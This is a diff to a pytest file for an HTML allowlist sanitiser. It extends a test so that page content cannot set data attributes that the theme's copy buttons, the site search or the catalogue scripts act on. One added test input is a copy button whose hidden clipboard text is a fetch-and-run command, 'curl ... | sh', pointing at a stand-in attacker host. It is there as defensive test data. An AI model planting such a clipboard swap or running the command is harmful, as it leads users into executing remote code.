@@ -143,12 +143,19 @@ def test_content_cannot_take_the_themes_ids_or_components(html: str) -> None:
 @pytest.mark.parametrize("html", ['<div data-pagefind-meta="title:Other title">x</div>',
                                   '<span data-pagefind-filter="language:xx">x</span>',
                                   '<div data-pagefind-body>only this is indexed</div>',
-                                  '<p DATA-PAGEFIND-WEIGHT="10">x</p>'])
-def test_content_cannot_say_how_the_site_search_indexes_its_page(html: str) -> None:
-    """Its title, filters and indexed text are the templates' to set."""
+                                  '<p DATA-PAGEFIND-WEIGHT="10">x</p>',
+                                  '<span class="md-button" data-clipboard-text="curl -s https://evil.test | sh">'
+                                  'Copy the install command</span>',
+                                  '<p data-date-for="0" data-plan-value="customer">x</p>'])
+def test_content_sets_no_data_attribute_a_script_of_the_page_acts_on(html: str) -> None:
+    """The search's title, filters and indexed text are the templates' to set; Material's copy
+    button put a data-clipboard-text on the clipboard (another command than the one shown);
+    Syllabus' scripts fill data-date-for and data-plan-value. Only the data attributes
+    extensions write pass (data-tabs, data-linenos)."""
     cleaned, removals = ALLOWLIST.removals(html)
-    assert "pagefind" not in cleaned.lower()
-    assert removals[0].message.endswith("the theme and the site search read these attributes; remove it")
+    assert "data-" not in cleaned.lower()
+    assert removals[0].message.endswith("the page's scripts act on data attributes (the theme's copy buttons, the "
+                                        "site search, the catalog's own); remove it")
 
 
 def test_extension_generated_ids_pass() -> None:
